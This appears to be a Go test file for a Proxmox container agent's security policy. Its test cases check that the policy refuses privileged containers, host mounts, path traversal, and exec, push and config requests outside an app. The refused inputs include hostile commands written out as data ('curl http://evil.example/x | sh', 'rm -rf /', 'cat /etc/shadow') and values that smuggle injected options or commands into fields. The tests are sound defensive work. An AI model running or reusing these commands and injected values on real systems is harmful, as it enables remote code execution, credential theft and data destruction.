package agent

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/proximity-ve/proximity/internal/nat"
	"github.com/proximity-ve/proximity/internal/pve"
	"github.com/proximity-ve/proximity/internal/secrets"
	"github.com/proximity-ve/proximity/internal/taskspec"
	pb "github.com/proximity-ve/proximity/proto/agentpb"
)

// configNode answers Config for the containers it holds; nothing else is
// called by the policy.
type configNode struct {
	pve.Runtime
	cts map[int]map[string]string
}

func (n configNode) Config(_ context.Context, vmid int) (map[string]string, error) {
	if c, ok := n.cts[vmid]; ok {
		return c, nil
	}
	return nil, &pve.Error{Kind: pve.ErrNotFound, Text: "no such container"}
}

// The containers of the table tests: 100 is an app's (made by Proximity,
// unprivileged), 101 the operator's own, 102 a privileged one made by
// Proximity on a node that allowed it once.
var policyNode = configNode{cts: map[int]map[string]string{
	100: {"unprivileged": "1", "tags": "app-nginx;proximity;pxt-app-1-create-1", "hostname": "web"},
	101: {"unprivileged": "1", "hostname": "operators-own"},
	102: {"tags": "proximity;pxt-app-2-create-1", "hostname": "legacy"},
}}

type policyCase struct {
	name   string
	kind   string
	vmid   uint32
	spec   any
	policy Policy
	refuse string // a part of the refusal; "" when the task is allowed
}

func task(kind string, vmid uint32, spec any) *pb.Task {
	t := &pb.Task{Id: "t1", Kind: kind, Vmid: vmid, Fence: 1}
	if spec != nil {
		t.SpecJson, _ = json.Marshal(spec)
	}
	return t
}

func runPolicyCases(t *testing.T, cases []policyCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			err := c.policy.Check(context.Background(), policyNode, task(c.kind, c.vmid, c.spec))
			if c.refuse == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			var r *RefusedError
			if !errors.As(err, &r) {
				t.Fatalf("not refused by the policy: %v", err)
			}
			if !strings.Contains(err.Error(), c.refuse) || !strings.HasPrefix(err.Error(), "refused by this node's policy") {
				t.Fatalf("refusal %q does not say %q", err, c.refuse)
			}
			if failureOf(err) != taskspec.FailInvalid {
				t.Fatalf("a refusal is reported as %q, want invalid (not retried)", failureOf(err))
			}
		})
	}
}

var allowPrivileged = Policy{AllowPrivileged: true}

// appCreate is the create the deploy flow sends (coordinator/apps).
func appCreate() taskspec.CreateSpec {
	return taskspec.CreateSpec{Template: "debian-13-standard_13.6-1_amd64.tar.zst", Hostname: "web", Cores: 1, MemoryMB: 512, SwapMB: 512,
		DiskGB: 4, Storage: "local-lvm", Net0: "name=eth0,bridge=vmbr0,ip=10.0.0.20/24,gw=10.0.0.1", Nameserver: "10.0.0.1",
		Tags: []string{"app-nginx"}, Start: true}
}

func TestPolicyRefusesPrivilegedCreate(t *testing.T) {
	priv := appCreate()
	priv.Privileged = true
	runPolicyCases(t, []policyCase{
		{name: "unprivileged create", kind: taskspec.Create, vmid: 200, spec: appCreate()},
		{name: "privileged create", kind: taskspec.Create, vmid: 200, spec: priv, refuse: "privileged containers are not allowed (allow_privileged: false)"},
		{name: "privileged create, allowed", kind: taskspec.Create, vmid: 200, spec: priv, policy: allowPrivileged},
		{name: "clone of a privileged container", kind: taskspec.Clone, vmid: 102, spec: taskspec.CloneSpec{NewVMID: 201, Hostname: "copy"},
			refuse: "CT 102 is privileged, and a clone of it would be too"},
		{name: "clone of a privileged container, allowed", kind: taskspec.Clone, vmid: 102, spec: taskspec.CloneSpec{NewVMID: 201, Hostname: "copy"}, policy: allowPrivileged},
		{name: "clone of an app", kind: taskspec.Clone, vmid: 100, spec: taskspec.CloneSpec{NewVMID: 201, Hostname: "copy", Snapshot: "proximity-clone-42"}},
		{name: "exec in a privileged container", kind: taskspec.Exec, vmid: 102, spec: taskspec.ExecSpec{Argv: []string{"ip", "-4", "addr", "show", "dev", "eth0"}},
			refuse: "CT 102 is privileged: exec in privileged containers is not allowed (allow_privileged: false)"},
		{name: "exec in a privileged container, allowed", kind: taskspec.Exec, vmid: 102, spec: taskspec.ExecSpec{Argv: []string{"ip", "-4", "addr", "show", "dev", "eth0"}}, policy: allowPrivileged},
		{name: "push into a privileged container", kind: taskspec.Push, vmid: 102, spec: taskspec.PushSpec{Path: AppDir + "/compose.yaml"}, refuse: "CT 102 is privileged"},
		{name: "features beyond nesting, keyctl and fuse", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Features = "nesting=1,mount=nfs;cifs"; return s }(), refuse: `features "nesting=1,mount=nfs;cifs"`},
		{name: "force_rw_sys", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Features = "force_rw_sys=1"; return s }(), refuse: "only nesting, keyctl, fuse"},
		{name: "fuse", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Features = "nesting=1,keyctl=1,fuse=1"; return s }()},
		{name: "rootfs on a host path", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Storage = "/"; return s }(), refuse: `storage "/" is not a storage ID`},
		{name: "rootfs with options", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Storage = "local-lvm:1,mp=/x,x"; return s }(), refuse: "is not a storage ID"},
		{name: "template from a path", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec {
				s := appCreate()
				s.Template = "../../../../var/lib/vz/images/100/rootfs.tar"
				return s
			}(), refuse: "is not a file name"},
		{name: "net0 with extra properties", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec {
				s := appCreate()
				s.Net0 = "name=eth0,bridge=vmbr0,ip=dhcp,bridge=vmbr1"
				return s
			}(), refuse: "each once"},
		{name: "net0 of another type", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Net0 = "name=eth0,type=phys,link=enp1s0"; return s }(), refuse: "net0"},
		{name: "nameserver with options", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Nameserver = "10.0.0.1,x=1"; return s }(), refuse: "nameserver"},
		{name: "tag with a separator", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Tags = []string{"a;b"}; return s }(), refuse: "is not a Proxmox tag"},
		{name: "hostname that is not one", kind: taskspec.Create, vmid: 200,
			spec: func() taskspec.CreateSpec { s := appCreate(); s.Hostname = "web --unprivileged 0"; return s }(), refuse: "hostname"},
	})
}

func TestPolicyRefusesMountPointSet(t *testing.T) {
	set := func(k, v string) taskspec.ConfigSpec { return taskspec.ConfigSpec{Set: map[string]string{k: v}} }
	var cases []policyCase
	for _, kv := range [][2]string{
		{"mp0", "/,mp=/host"},
		{"mp9", "local-lvm:8,mp=/data"},
		{"dev0", "/dev/sda"},
		{"lxc.mount.entry", "/ host none bind 0 0"},
		{"lxc.apparmor.profile", "unconfined"},
		{"lxc.cap.drop", ""},
		{"hookscript", "local:snippets/x.sh"},
		{"rootfs", "/,size=8G"},
		{"unprivileged", "0"},
		{"tags", "proximity"},
		{"unused0", "local-lvm:vm-100-disk-1"},
		{"protection", "1"},
		{"lock", "backup"},
		{"MP0", "/,mp=/host"},
		{"net0 ", "name=eth0"},
	} {
		cases = append(cases, policyCase{name: "set " + kv[0], kind: taskspec.SetConfig, vmid: 100, spec: set(kv[0], kv[1]),
			refuse: "pct set of key"})
	}
	cases = append(cases,
		policyCase{name: "delete mp0", kind: taskspec.SetConfig, vmid: 100, spec: taskspec.ConfigSpec{Delete: []string{"mp0"}}, refuse: `--delete of key "mp0"`},
		policyCase{name: "delete hostname", kind: taskspec.SetConfig, vmid: 100, spec: taskspec.ConfigSpec{Delete: []string{"hostname"}}, refuse: "--delete"},
		policyCase{name: "features mount", kind: taskspec.SetConfig, vmid: 100, spec: set("features", "nesting=1,mount=nfs"), refuse: "features"},
		policyCase{name: "net0 smuggling a second value", kind: taskspec.SetConfig, vmid: 100, spec: set("net0", "name=eth0,bridge=vmbr0 --mp0 /"), refuse: "net0"},
		policyCase{name: "memory not a number", kind: taskspec.SetConfig, vmid: 100, spec: set("memory", "512,mp0=/"), refuse: "whole number"},
		policyCase{name: "onboot 2", kind: taskspec.SetConfig, vmid: 100, spec: set("onboot", "2"), refuse: "whole number 0-1"},
		policyCase{name: "on the operator's own container", kind: taskspec.SetConfig, vmid: 101, spec: set("memory", "1024"), refuse: "CT 101 was not made by Proximity"},
		policyCase{name: "on a privileged container", kind: taskspec.SetConfig, vmid: 102, spec: set("memory", "1024"), refuse: "CT 102 is privileged"},
		policyCase{name: "memory, cores, swap, net0, onboot, features", kind: taskspec.SetConfig, vmid: 100, spec: taskspec.ConfigSpec{Set: map[string]string{
			"memory": "1024", "cores": "2", "swap": "512", "net0": "name=eth0,bridge=vmbr0,ip=dhcp,firewall=1", "onboot": "1",
			"features": "nesting=1,keyctl=1", "hostname": "web2", "description": "an app\nsecond line", "cpulimit": "1.5", "nameserver": "1.1.1.1 9.9.9.9"}}},
		policyCase{name: "delete swap and net1", kind: taskspec.SetConfig, vmid: 100, spec: taskspec.ConfigSpec{Delete: []string{"swap", "net1"}}},
	)
	runPolicyCases(t, cases)
}

func TestPolicyRefusesExecOutsideTheApp(t *testing.T) {
	exec := func(argv ...string) taskspec.ExecSpec { return taskspec.ExecSpec{Argv: argv} }
	var cases []policyCase
	// The deploy flow's commands, as coordinator/apps builds them.
	for _, argv := range [][]string{
		{"ip", "-4", "addr", "show", "dev", "eth0"},
		{"sh", "-c", "apt-get update && apt-get install -y -q docker.io docker-compose curl"},
		{"docker", "compose", "--project-directory", "/opt/proximity/app", "up", "-d", "--remove-orphans"},
		{"docker", "compose", "--project-directory", "/opt/proximity/app", "pull"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://127.0.0.1:8080/healthz"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://127.0.0.1:80/"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://127.0.0.1:9000/minio/health/live?x=1&y=%20"},
	} {
		cases = append(cases, policyCase{name: strings.Join(argv[:2], " "), kind: taskspec.Exec, vmid: 100, spec: exec(argv...)})
	}
	for _, argv := range [][]string{
		{"sh", "-c", "curl http://evil.example/x | sh"},
		{"sh", "-c", "apt-get update && apt-get install -y -q docker.io docker-compose curl; rm -rf /"},
		{"cat", "/etc/shadow"},
		{"rm", "-rf", "/"},
		{"bash"},
		{},
		{"docker", "compose", "--project-directory", "/", "up", "-d", "--remove-orphans"},
		{"docker", "compose", "--project-directory", "/opt/proximity/app", "up", "-d", "--remove-orphans", "--build"},
		{"docker", "compose", "-f", "/tmp/x.yaml", "up", "-d"},
		{"docker", "run", "--privileged", "-v", "/:/host", "alpine"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://evil.example/"},
		{"curl", "-fsS", "-o", "/etc/passwd", "--max-time", "5", "http://127.0.0.1:80/"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "file:///etc/shadow"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://127.0.0.1:80/ -o /etc/x"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://127.0.0.1:99999/"},
		{"curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://127.0.0.1:80@evil.example/"},
		{"ip", "-4", "addr", "show", "dev", "eth0", "&&", "reboot"},
	} {
		cases = append(cases, policyCase{name: "refuse " + strings.Join(argv, " "), kind: taskspec.Exec, vmid: 100, spec: exec(argv...),
			refuse: "is not one of the deploy flow's commands"})
	}
	cases = append(cases,
		policyCase{name: "an allowed command in the operator's own container", kind: taskspec.Exec, vmid: 101,
			spec: exec("ip", "-4", "addr", "show", "dev", "eth0"), refuse: `CT 101 was not made by Proximity (no "proximity" tag): exec only in Proximity's containers`},
	)
	runPolicyCases(t, cases)
	// A container that is not there is not a refusal: the exec would fail
	// the same way.
	err := Policy{}.Check(context.Background(), policyNode, task(taskspec.Exec, 999, exec("ip", "-4", "addr", "show", "dev", "eth0")))
	if !errors.Is(err, pve.ErrNotFound) {
		t.Fatalf("exec in a missing container: %v, want not found", err)
	}
}

func TestPolicyRefusesPushOutsideTheApp(t *testing.T) {
	var cases []policyCase
	for _, p := range []string{AppDir + "/compose.yaml", AppDir + "/.env", AppDir + "/config/app.ini"} {
		cases = append(cases, policyCase{name: "push " + p, kind: taskspec.Push, vmid: 100, spec: taskspec.PushSpec{Path: p, Perms: "0644"}},
			policyCase{name: "write_env " + p, kind: taskspec.WriteEnv, vmid: 100, spec: taskspec.EnvSpec{Path: p, Generate: map[string]int{"SECRET": 32}}})
	}
	for _, p := range []string{
		"/etc/cron.d/proximity",
		"/root/.ssh/authorized_keys",
		AppDir + "/../../../etc/shadow",
		AppDir + "/x/../../../../etc/shadow",
		AppDir + "/./compose.yaml",
		AppDir + "//compose.yaml",
		AppDir + "/",
		AppDir,
		AppDir + "x/compose.yaml",
		"/opt/proximity/application/compose.yaml",
		"opt/proximity/app/compose.yaml",
		AppDir + "/..",
		AppDir + "/a b",
		AppDir + "/a\nb",
		"/proc/1/root/etc/shadow",
	} {
		cases = append(cases, policyCase{name: "push " + p, kind: taskspec.Push, vmid: 100, spec: taskspec.PushSpec{Path: p}, refuse: "inside the app's directory /opt/proximity/app"},
			policyCase{name: "write_env " + p, kind: taskspec.WriteEnv, vmid: 100, spec: taskspec.EnvSpec{Path: p}, refuse: "inside the app's directory"})
	}
	cases = append(cases,
		policyCase{name: "setuid file", kind: taskspec.Push, vmid: 100, spec: taskspec.PushSpec{Path: AppDir + "/x", Perms: "4755"}, refuse: "no setuid"},
		policyCase{name: "perms with options", kind: taskspec.Push, vmid: 100, spec: taskspec.PushSpec{Path: AppDir + "/x", Perms: "0644 --user 0"}, refuse: "permissions"},
		policyCase{name: "into the operator's container", kind: taskspec.Push, vmid: 101, spec: taskspec.PushSpec{Path: AppDir + "/compose.yaml"}, refuse: "CT 101 was not made by Proximity"},
		policyCase{name: "a huge secret", kind: taskspec.WriteEnv, vmid: 100, spec: taskspec.EnvSpec{Path: AppDir + "/.env", Generate: map[string]int{"S": 1 << 40}}, refuse: "generated S"},
	)
	env := func(name, v string) taskspec.EnvSpec {
		return taskspec.EnvSpec{Path: AppDir + "/.env", Values: map[string]string{name: v}}
	}
	// TestEnvValueWithNewlineRefused, in the agent: the coordinator's check
	// is not the only one between a request and the .env file.
	cases = append(cases,
		policyCase{name: "env value with a newline", kind: taskspec.WriteEnv, vmid: 100, spec: env("TZ", "a\nEVIL=1"), refuse: "TZ: value contains a line break"},
		policyCase{name: "env value with a NUL", kind: taskspec.WriteEnv, vmid: 100, spec: env("TZ", "a\x00"), refuse: "NUL"},
		policyCase{name: "env value of 100 KB", kind: taskspec.WriteEnv, vmid: 100, spec: env("TZ", strings.Repeat("x", 100<<10)), refuse: "longer than the maximum"},
		policyCase{name: "env name with a newline", kind: taskspec.WriteEnv, vmid: 100, spec: env("A\nB", "x"), refuse: "variable name"},
		policyCase{name: "env value quoted", kind: taskspec.WriteEnv, vmid: 100, spec: env("TZ", "$(id) ${X} \"x\" \\ #")},
		policyCase{name: "sealed values unopened", kind: taskspec.WriteEnv, vmid: 100, spec: taskspec.EnvSpec{Path: AppDir + "/.env", Sealed: map[string]*secrets.Sealed{"X": {}}}, refuse: "unopened"},
		policyCase{name: "unknown env mode", kind: taskspec.WriteEnv, vmid: 100, spec: taskspec.EnvSpec{Path: AppDir + "/.env", Mode: "append"}, refuse: "unknown mode"},
	)
	runPolicyCases(t, cases)
}

func TestPolicyRefusesHostVolumesAndProxmoxPorts(t *testing.T) {
	fwd := func(port int) taskspec.ForwardsSpec {
		return taskspec.ForwardsSpec{Version: 1, Forwards: []nat.Forward{{App: "app_a", Protocol: "tcp", PublicPort: port, IP: "10.0.0.20", Port: 80}}}
	}
	runPolicyCases(t, []policyCase{
		{name: "restore of an app's backup", kind: taskspec.Restore, vmid: 100, spec: taskspec.RestoreSpec{Volid: "local:backup/vzdump-lxc-100-2026_01_02-03_04_05.tar.zst", Storage: "local-lvm", Force: true}},
		{name: "restore beside the original (a move)", kind: taskspec.Restore, vmid: 101, spec: taskspec.RestoreSpec{Volid: "nfs:backup/vzdump-lxc-100-2026_01_02-03_04_05.tar.zst", Storage: "local-lvm", Unique: true, Net0: "name=eth0,bridge=vmbr0,ip=dhcp"}},
		{name: "restore with a net0 that reaches the host", kind: taskspec.Restore, vmid: 101, spec: taskspec.RestoreSpec{Volid: "nfs:backup/vzdump-lxc-100-2026_01_02-03_04_05.tar.zst", Net0: "name=eth0,bridge=vmbr0,ip=dhcp,host-managed=1"}, refuse: "net0"},
		{name: "restore from PBS", kind: taskspec.Restore, vmid: 100, spec: taskspec.RestoreSpec{Volid: "pbs:backup/ct/100/2026-01-02T03:04:05Z"}},
		{name: "restore from a file on the node", kind: taskspec.Restore, vmid: 100, spec: taskspec.RestoreSpec{Volid: "/var/lib/vz/images/100/evil.tar"}, refuse: "is not a backup archive"},
		{name: "restore from a disk", kind: taskspec.Restore, vmid: 100, spec: taskspec.RestoreSpec{Volid: "local-lvm:vm-101-disk-0"}, refuse: "is not a backup archive"},
		{name: "restore from outside the dump directory", kind: taskspec.Restore, vmid: 100, spec: taskspec.RestoreSpec{Volid: "local:backup/../images/evil.tar"}, refuse: "is not a backup archive"},
		{name: "delete of a container's disk", kind: taskspec.DeleteBackup, spec: taskspec.VolumeSpec{Volid: "local-lvm:vm-101-disk-0"}, refuse: "is not a backup archive"},
		{name: "delete of a backup", kind: taskspec.DeleteBackup, spec: taskspec.VolumeSpec{Volid: "local:backup/vzdump-lxc-100-2026_01_02-03_04_05.tar.zst"}},
		{name: "backup", kind: taskspec.Backup, vmid: 100, spec: taskspec.BackupSpec{Storage: "local", Mode: "snapshot"}},
		{name: "backup with a strange mode", kind: taskspec.Backup, vmid: 100, spec: taskspec.BackupSpec{Storage: "local", Mode: "snapshot --script /tmp/x"}, refuse: "backup mode"},
		{name: "template download", kind: taskspec.DownloadTemplate, spec: taskspec.TemplateSpec{Storage: "local", Template: "debian-13-standard_13.6-1_amd64.tar.zst"}},
		{name: "template download to a path", kind: taskspec.DownloadTemplate, spec: taskspec.TemplateSpec{Template: "../../../../etc/cron.d/x"}, refuse: "is not a file name"},
		{name: "snapshot", kind: taskspec.Snapshot, vmid: 100, spec: taskspec.SnapshotSpec{Name: "proximity-clone-7"}},
		{name: "snapshot named like an option", kind: taskspec.Rollback, vmid: 100, spec: taskspec.SnapshotSpec{Name: "--start"}, refuse: "snapshot name"},
		{name: "forward of an app port", kind: taskspec.Forwards, spec: fwd(30000)},
		{name: "forward of the web interface", kind: taskspec.Forwards, spec: fwd(8006), refuse: "public port 8006 is one Proxmox VE uses itself"},
		{name: "forward of SSH", kind: taskspec.Forwards, spec: fwd(22), refuse: "below 1024"},
		{name: "forward of a VNC console", kind: taskspec.Forwards, spec: fwd(5901), refuse: "Proxmox VE uses itself"},
		{name: "forward to a non-address", kind: taskspec.Forwards, spec: taskspec.ForwardsSpec{Forwards: []nat.Forward{{App: "a", Protocol: "tcp", PublicPort: 30000, IP: "10.0.0.1; flush ruleset", Port: 80}}}, refuse: "port forward"},
		{name: "no forwards", kind: taskspec.Forwards, spec: taskspec.ForwardsSpec{Version: 2}},
		{name: "start, stop, inspect", kind: taskspec.Start, vmid: 101},
		{name: "an unknown kind", kind: "shell", vmid: 100, refuse: `task kind "shell" is not one this node runs`},
	})
}

// TestPolicyNamesItsFile: a refusal says where the policy lives, and the
// default policy is the zero one.
func TestPolicyNamesItsFile(t *testing.T) {
	priv := appCreate()
	priv.Privileged = true
	p := DefaultPolicy()
	p.Source = "/etc/proximity/agent.yaml"
	err := p.Check(context.Background(), policyNode, task(taskspec.Create, 200, priv))
	want := "refused by this node's policy (/etc/proximity/agent.yaml): privileged containers are not allowed (allow_privileged: false)"
	if err == nil || err.Error() != want {
		t.Fatalf("got %v, want %q", err, want)
	}
	if DefaultPolicy() != (Policy{}) {
		t.Fatal("the default policy is not the zero policy")
	}
}
